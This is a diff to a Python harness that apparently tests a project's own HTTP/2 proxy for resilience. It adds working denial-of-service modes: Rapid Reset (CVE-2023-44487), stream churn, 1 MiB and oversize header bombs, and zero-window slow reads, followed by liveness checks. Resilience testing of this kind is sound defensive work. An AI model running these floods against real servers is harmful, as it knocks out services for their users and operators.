@@ -5,20 +5,35 @@
   flood  --connect IP:PORT --idle N --stalled M [--wait S]
          N TCP connections that send nothing and M that send a TLS ClientHello and then nothing; waits up to S seconds
          for the server to close them and reports how many it closed and when (seconds after each was opened).
-  bomb   --connect IP:PORT --ca --cert --key --kind hpack|big|under --authority IP:PORT [--timeout S]
+  bomb   --connect IP:PORT --ca --cert --key --kind hpack|big|under|frame|oversize --authority IP:PORT [--timeout S]
          Raw HTTP/2 on mutual TLS: stream 1 carries the header bomb (hpack: one 4,000-byte header inserted in the HPACK
          table and referenced ~12,000 times in one 16 KB frame, ~49 MB decoded; big: 70 KiB of distinct headers in
          HEADERS + CONTINUATION; under: 60 KiB, inside the 64 KiB limit, CONNECT to --authority). Then stream 3, on the
          same connection, a plain CONNECT to --authority that writes "bomb-check\\n" and waits for "pong:bomb-check".
+         frame: one HEADERS frame of exactly 1 MiB (the advertised frame size) of distinct headers; oversize: 1 MiB + 1
+         byte, a connection error, so the check runs on a new connection.
   flow   --connect IP:PORT --ca --cert --key --stall-authority IP:PORT --authority IP:PORT [--rounds R] [--streams K]
          [--graceful]
          R rounds of K CONNECT streams to an upstream that never reads, each sending until flow control stops it, then
          reset (or, with --graceful, ended in order and left); then one stream to --authority (an echo) on the same
          connection, timing how long "flow-check" takes to come back.
+  rapid  --connect --ca --cert --key --target IP:PORT --authority IP:PORT --count N [--batch B] [--max-seconds S]
+         Rapid reset (CVE-2023-44487): N streams, each a CONNECT to --target immediately followed by RST_STREAM(CANCEL),
+         written B pairs at a time without waiting for answers; a connection the server closes (GOAWAY) is replaced by
+         a new one. Then, on a new connection, a check stream to --authority (the echo), timed from the handshake.
+  churn  (same options) N streams opened in batches of B, each waiting for the server's answer (200 once the upstream
+         connected), then all reset; then the same check.
+  window --connect --ca --cert --key --target IP:PORT --authority IP:PORT [--connections C] [--streams K] [--hold S]
+         Our SETTINGS say INITIAL_WINDOW_SIZE 0 and we never send WINDOW_UPDATE: C connections with K CONNECT streams
+         each to --target (an upstream that writes without end), held S seconds (PINGs answered, DATA never allowed);
+         then the connections are closed and a check stream runs on a new connection.
+  serve-discard --port P   an upstream that reads and drops everything on every connection, closing on EOF.
+  serve-source  --port P   an upstream that writes zeros on every connection as fast as the connection takes them.
 """
 import argparse
 import json
 import resource
+import select
 import selectors
 import socket
 import ssl
@@ -29,6 +44,9 @@ import time
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
 END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+CANCEL = 8
+SETTINGS_INITIAL_WINDOW_SIZE = 0x4
+MAX_FRAME = 1024 * 1024  # the SETTINGS_MAX_FRAME_SIZE both data paths advertise (agent/src/hbone/settings.ts)
 
 
 def raise_nofile():
@@ -143,7 +161,7 @@ def frame(ftype, flags, sid, payload=b""):
 class Raw:
     """Just enough HTTP/2 over TLS to send hand-made header blocks and read what comes back."""
 
-    def __init__(self, a):
+    def __init__(self, a, settings=b"", window_updates=True):
         import hpack  # Debian python3-hpack, a dependency of python3-h2
 
         host, port = a.connect.rsplit(":", 1)
@@ -158,8 +176,12 @@ class Raw:
         self.dec = hpack.Decoder()
         self.dec.max_allowed_table_size = 65536
         self.buf = b""
+        self.timeout = a.timeout
+        self.window_updates = window_updates
         self.status, self.reset, self.data, self.goaway = {}, {}, {}, None
-        self.tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        self.data_bytes = 0
+        self.closed = False
+        self.tls.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
 
     def send(self, b):
         self.tls.sendall(b)
@@ -169,27 +191,85 @@ class Raw:
         deadline = time.monotonic() + timeout
         while not until():
             remaining = deadline - time.monotonic()
-            if remaining <= 0:
+            if remaining <= 0 or self.closed:
                 return False
             self.tls.settimeout(remaining)
             try:
                 d = self.tls.recv(65536)
             except socket.timeout:
                 return False
-            if not d:
-                self.goaway = self.goaway if self.goaway is not None else -1
+            except OSError:
+                self.eof()
                 return False
-            self.buf += d
-            while len(self.buf) >= 9:
-                ln = int.from_bytes(self.buf[:3], "big")
-                if len(self.buf) < 9 + ln:
-                    break
-                ftype, flags = self.buf[3], self.buf[4]
-                sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
-                p = self.buf[9:9 + ln]
-                self.buf = self.buf[9 + ln:]
-                self.on_frame(ftype, flags, sid, p)
+            if not d:
+                self.eof()
+                return False
+            self.feed(d)
         return True
+
+    def eof(self):
+        self.closed = True
+        self.goaway = self.goaway if self.goaway is not None else -1
+
+    def feed(self, d):
+        self.buf += d
+        while len(self.buf) >= 9:
+            ln = int.from_bytes(self.buf[:3], "big")
+            if len(self.buf) < 9 + ln:
+                break
+            ftype, flags = self.buf[3], self.buf[4]
+            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
+            p = self.buf[9:9 + ln]
+            self.buf = self.buf[9 + ln:]
+            self.on_frame(ftype, flags, sid, p)
+
+    def send_reading(self, b, timeout):
+        """Writes b while reading what the server sends meanwhile (a server that stops reading while its answers pile
+        up in our receive buffer would otherwise deadlock with a blocking write). OSError when the connection is gone."""
+        deadline = time.monotonic() + timeout
+        self.tls.setblocking(False)
+        try:
+            while True:
+                try:
+                    self.tls.send(b)  # no partial writes: all of b, or a retry with the same b
+                    return
+                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
+                    pass
+                if time.monotonic() > deadline:
+                    raise TimeoutError("send timed out")
+                select.select([self.tls], [self.tls], [], 0.05)
+                self.tls.settimeout(self.timeout)
+                self.drain()
+                self.tls.setblocking(False)
+                if self.closed:
+                    raise ConnectionResetError("closed by the server")
+        finally:
+            self.tls.settimeout(self.timeout)
+
+    def drain(self):
+        """Reads whatever has arrived, without waiting."""
+        self.tls.setblocking(False)
+        try:
+            while not self.closed:
+                try:
+                    d = self.tls.recv(65536)
+                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
+                    break
+                except OSError:
+                    self.eof()
+                    break
+                if not d:
+                    self.eof()
+                    break
+                self.feed(d)
+        finally:
+            self.tls.settimeout(self.timeout)
+
+    def close(self):
+        try:
+            self.tls.close()
+        except OSError:
+            pass
 
     def on_frame(self, ftype, flags, sid, p):
         if ftype == SETTINGS and not flags & ACK:
@@ -206,14 +286,17 @@ class Raw:
                 if k in (":status", b":status"):
                     self.status[sid] = int(v)
         elif ftype == DATA:
-            self.data[sid] = self.data.get(sid, b"") + p
-            if p:
+            self.data_bytes += len(p)
+            if self.window_updates:
+                self.data[sid] = self.data.get(sid, b"") + p
+            if p and self.window_updates:
                 inc = struct.pack(">I", len(p))
                 self.send(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc))
         elif ftype == RST_STREAM:
             self.reset[sid] = int.from_bytes(p[:4], "big")
         elif ftype == GOAWAY:
             self.goaway = int.from_bytes(p[4:8], "big")
+            self.goaway_last = int.from_bytes(p[0:4], "big") & 0x7FFFFFFF
 
     def check_stream(self, sid, authority, text, timeout):
         """A plain CONNECT on stream sid that sends text and waits for pong:text; returns (ok, seconds)."""
@@ -236,6 +319,23 @@ def bomb(a, out):
         block += b"\xbe" * refs  # indexed field 62: the entry just inserted
         out["decoded_bytes"] = refs * (6 + 4000)
         c.send(frame(HEADERS, END_HEADERS, 1, block))
+    elif a.kind in ("frame", "oversize"):
+        # One HEADERS frame of exactly the 1 MiB frame size the server advertises (frame), or one byte more (oversize):
+        # ~1,000 distinct 1,000-byte headers, 16 times the header list limit.
+        size = MAX_FRAME + (1 if a.kind == "oversize" else 0)
+        block = connect_block(a.authority)
+        i = 0
+        while len(block) < size - 1100:
+            block += literal("x-f-%04d" % i, "v" * 1000)
+            i += 1
+        room = size - len(block)
+        pad = next(p for p in (literal("x-pad", "p" * (room - 7 - k)) for k in range(1, 5)) if len(p) == room)
+        block += pad
+        out["decoded_bytes"] = size
+        try:
+            c.send(frame(HEADERS, END_HEADERS, 1, block))
+        except OSError:  # oversize: the server may close before it has read the whole frame
+            c.eof()
     else:
         count = 70 if a.kind == "big" else 58
         block = connect_block(a.authority) + b"".join(literal("x-h-%03d" % i, "v" * 1000) for i in range(count))
@@ -249,6 +349,16 @@ def bomb(a, out):
     out["bomb_reset"] = c.reset.get(1)
     out["bomb_status"] = c.status.get(1)
     out["bomb_answered"] = answered
+    if a.kind == "oversize":
+        # A frame over the advertised size is a connection error: expect GOAWAY (or the close) and check on a new one.
+        c.pump(lambda: c.goaway is not None, a.timeout)
+        out["bomb_goaway"] = c.goaway
+        c.close()
+        c = Raw(a)
+        c.pump(lambda: False, 0.1)
+        ok, secs = c.check_stream(1, a.authority, "bomb-check", a.timeout)
+        out["check_ok"], out["check_seconds"], out["goaway"] = ok, secs, c.goaway
+        return
     ok, secs = c.check_stream(3, a.authority, "bomb-check", a.timeout)
     out["check_ok"], out["check_seconds"], out["goaway"] = ok, secs, c.goaway
 
@@ -299,7 +409,7 @@ def flow(a, out):
         return True
 
     pump(lambda: False, 0.3)
-    chunk = b"\0" * 16384
+    chunk = b"\0" * MAX_FRAME  # as much as the stream's window allows per round trip: a 16 KiB chunk took ~20 s a round
     sent_total = 0
     rounds = []
     for r in range(a.rounds):
@@ -366,17 +476,182 @@ def flow(a, out):
     tls.close()
 
 
+def check_after(a, c, out):
+    """Closes the attack's connection, then a check stream to the echo on a new one (from handshake to answer)."""
+    if c is not None:
+        c.close()
+    t0 = time.monotonic()
+    c = Raw(a)
+    c.pump(lambda: False, 0.1)
+    ok, _ = c.check_stream(1, a.authority, "attack-check", a.timeout)
+    out["check_ok"], out["check_seconds"] = ok, round(time.monotonic() - t0, 3)
+    c.close()
+
+
+def rapid(a, out):
+    block = connect_block(a.target)
+    t0 = time.monotonic()
+    c, sid, sent, conns, goaways, answered, resets = None, 1, 0, 0, [], 0, 0
+    while sent < a.count and time.monotonic() - t0 < a.max_seconds:
+        if c is None or c.closed or c.goaway is not None:
+            if c is not None:
+                goaways.append(c.goaway)
+                answered, resets = answered + len(c.status), resets + len(c.reset)
+                c.close()
+            c, sid = Raw(a), 1
+            conns += 1
+        n = min(a.batch, a.count - sent)
+        burst = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * i, block) + frame(RST_STREAM, 0, sid + 2 * i, struct.pack(">I", CANCEL))
+                         for i in range(n))
+        try:
+            c.send_reading(burst, a.timeout)
+        except OSError:
+            c.eof()
+            continue
+        sid += 2 * n
+        sent += n
+        c.drain()
+    out["seconds"] = round(time.monotonic() - t0, 3)
+    out["sent"] = sent
+    out["rate_per_s"] = round(sent / max(out["seconds"], 1e-6))
+    c.pump(lambda: False, 0.3)
+    if c.closed or c.goaway is not None:
+        goaways.append(c.goaway)
+    out["answered_200"] = answered + sum(1 for v in c.status.values() if v == 200)
+    out["server_resets"] = resets + len(c.reset)
+    out["connections"] = conns
+    out["goaways"] = goaways
+    check_after(a, c, out)
+
+
+def churn(a, out):
+    block = connect_block(a.target)
+    t0 = time.monotonic()
+    c, sid, opened, conns, refused, lost = None, 1, 0, 0, 0, 0
+    goaways = []
+    while opened + refused + lost < a.count and time.monotonic() - t0 < a.max_seconds:
+        if c is None or c.closed or c.goaway is not None:
+            if c is not None:
+                goaways.append(c.goaway)
+                c.close()
+            c, sid = Raw(a), 1
+            conns += 1
+        n = min(a.batch, a.count - opened - refused - lost)
+        sids = [sid + 2 * i for i in range(n)]
+        sid += 2 * n
+        try:
+            c.send_reading(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in sids), a.timeout)
+            # A GOAWAY ends the wait: the streams above its last id will never be answered.
+            c.pump(lambda: c.goaway is not None or all(s in c.status or s in c.reset for s in sids), a.timeout)
+            ok = [s for s in sids if c.status.get(s) == 200 and s not in c.reset]
+            opened += len(ok)
+            refused += sum(1 for s in sids if s in c.reset or (s in c.status and c.status[s] != 200))
+            lost += sum(1 for s in sids if s not in c.reset and s not in c.status)
+            c.send_reading(b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)) for s in ok), a.timeout)
+            for s in sids:  # keep the bookkeeping small
+                c.status.pop(s, None)
+                c.reset.pop(s, None)
+            c.drain()
+        except OSError:
+            c.eof()
+    out["seconds"] = round(time.monotonic() - t0, 3)
+    out["opened_and_reset"] = opened
+    out["refused"] = refused
+    out["unanswered"] = lost
+    out["connections"] = conns
+    c.pump(lambda: False, 0.3)
+    if c.closed or c.goaway is not None:
+        goaways.append(c.goaway)
+    out["goaways"] = goaways
+    check_after(a, c, out)
+
+
+def window(a, out):
+    block = connect_block(a.target)
+    zero = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
+    conns = []
+    for _ in range(a.connections):
+        c = Raw(a, settings=zero, window_updates=False)
+        sids = [1 + 2 * i for i in range(a.streams)]
+        c.send(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in sids))
+        c.pump(lambda: all(s in c.status or s in c.reset for s in sids), a.timeout)
+        conns.append(c)
+    out["answered_200"] = sum(1 for c in conns for v in c.status.values() if v == 200)
+    t0 = time.monotonic()
+    while time.monotonic() - t0 < a.hold:
+        for c in conns:
+            c.drain()  # answers PINGs and SETTINGS; DATA is never allowed, so never acknowledged
+        time.sleep(0.1)
+    out["held_seconds"] = round(time.monotonic() - t0, 3)
+    out["data_bytes_received"] = sum(c.data_bytes for c in conns)
+    out["server_resets"] = sum(len(c.reset) for c in conns)
+    out["goaways"] = [c.goaway for c in conns if c.goaway is not None]
+    for c in conns:
+        c.close()
+    check_after(a, None, out)
+
+
+def serve(a, out):
+    """serve-discard / serve-source: a select loop over every accepted connection, forever."""
+    raise_nofile()
+    srv = socket.socket()
+    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    srv.bind(("0.0.0.0", a.port))
+    srv.listen(4096)
+    srv.setblocking(False)
+    sel = selectors.DefaultSelector()
+    sel.register(srv, selectors.EVENT_READ)
+    source = a.mode == "serve-source"
+    zeros = b"\0" * 65536
+    while True:
+        for key, _ in sel.select():
+            s = key.fileobj
+            if s is srv:
+                try:
+                    conn, _ = srv.accept()
+                except OSError:
+                    continue
+                conn.setblocking(False)
+                sel.register(conn, selectors.EVENT_READ | (selectors.EVENT_WRITE if source else 0))
+                continue
+            try:
+                d = s.recv(65536)
+            except BlockingIOError:
+                d = None
+            except OSError:
+                d = b""
+            if d == b"":
+                sel.unregister(s)
+                s.close()
+                continue
+            if source:
+                try:
+                    s.send(zeros)
+                except (BlockingIOError, InterruptedError):
+                    pass
+                except OSError:
+                    sel.unregister(s)
+                    s.close()
+
+
 def main() -> int:
     ap = argparse.ArgumentParser()
-    ap.add_argument("mode", choices=["flood", "bomb", "flow"])
-    ap.add_argument("--connect", required=True)
+    ap.add_argument("mode", choices=["flood", "bomb", "flow", "rapid", "churn", "window", "serve-discard", "serve-source"])
+    ap.add_argument("--connect")
+    ap.add_argument("--port", type=int)
+    ap.add_argument("--target")
+    ap.add_argument("--count", type=int, default=10000)
+    ap.add_argument("--batch", type=int, default=100)
+    ap.add_argument("--max-seconds", type=float, default=60.0)
+    ap.add_argument("--connections", type=int, default=2)
+    ap.add_argument("--hold", type=float, default=10.0)
     ap.add_argument("--idle", type=int, default=0)
     ap.add_argument("--stalled", type=int, default=0)
     ap.add_argument("--wait", type=float, default=20.0)
     ap.add_argument("--ca")
     ap.add_argument("--cert")
     ap.add_argument("--key")
-    ap.add_argument("--kind", choices=["hpack", "big", "under"], default="hpack")
+    ap.add_argument("--kind", choices=["hpack", "big", "under", "frame", "oversize"], default="hpack")
     ap.add_argument("--authority")
     ap.add_argument("--stall-authority")
     ap.add_argument("--rounds", type=int, default=3)
@@ -387,7 +662,9 @@ def main() -> int:
     a = ap.parse_args()
     out = {"mode": a.mode, "error": None}
     try:
-        {"flood": flood, "bomb": bomb, "flow": flow}[a.mode](a, out)
+        modes = {"flood": flood, "bomb": bomb, "flow": flow, "rapid": rapid, "churn": churn, "window": window,
+                 "serve-discard": serve, "serve-source": serve}
+        modes[a.mode](a, out)
     except Exception as e:  # noqa: BLE001 - the caller reads the error from the JSON line
         out["error"] = f"{type(e).__name__}: {e}"
     print(json.dumps(out))
